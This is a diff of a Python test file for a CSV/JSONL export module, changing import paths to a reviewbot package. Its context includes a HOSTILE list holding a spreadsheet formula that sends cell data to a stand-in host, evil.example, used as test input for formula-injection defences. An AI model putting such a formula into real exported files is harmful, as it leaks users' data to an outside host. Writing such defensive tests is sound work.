@@ -13,8 +13,8 @@ from pathlib import Path
 import pytest
 import time_machine
 
-import workflows.export
-from workflows.export import FORMULA_START, safe_cell
+import reviewbot.workflows.export
+from reviewbot.workflows.export import FORMULA_START, safe_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -102,7 +102,7 @@ def test_csv_cells_cannot_run_as_formulas(demo: Path, cli) -> None:  # type: ign
 def test_records_are_read_in_batches(demo: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
     whole = cli("export items -f jsonl").stdout
     reads: list[int] = []
-    original = workflows.export._batches
+    original = reviewbot.workflows.export._batches
 
     def counting(store, model, build):  # type: ignore[no-untyped-def]
         def counted(session, records):  # type: ignore[no-untyped-def]
@@ -111,8 +111,8 @@ def test_records_are_read_in_batches(demo: Path, cli, monkeypatch: pytest.Monkey
 
         return original(store, model, counted)
 
-    monkeypatch.setattr(workflows.export, "BATCH", 7)
-    monkeypatch.setattr(workflows.export, "_batches", counting)
+    monkeypatch.setattr(reviewbot.workflows.export, "BATCH", 7)
+    monkeypatch.setattr(reviewbot.workflows.export, "_batches", counting)
     assert cli("export items -f jsonl").stdout == whole  # same rows, same order
     assert max(reads) == 7 and sum(reads) == len(whole.splitlines()) and len(reads) > 10
 
@@ -120,7 +120,7 @@ def test_records_are_read_in_batches(demo: Path, cli, monkeypatch: pytest.Monkey
 def test_a_failed_export_leaves_no_file(demo: Path, cli, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
     (demo / "items.csv").write_text("the previous export\n", encoding="utf-8")
 
-    original = workflows.export.item_rows
+    original = reviewbot.workflows.export.item_rows
 
     def broken(store):  # type: ignore[no-untyped-def]
         for number, row in enumerate(original(store)):
@@ -128,7 +128,7 @@ def test_a_failed_export_leaves_no_file(demo: Path, cli, monkeypatch: pytest.Mon
                 raise OSError("disk full")
             yield row
 
-    monkeypatch.setattr(workflows.export, "item_rows", broken)
+    monkeypatch.setattr(reviewbot.workflows.export, "item_rows", broken)
     with pytest.raises(OSError, match="disk full"):
         cli("export items -o items.csv")
     assert (demo / "items.csv").read_text(encoding="utf-8") == "the previous export\n"
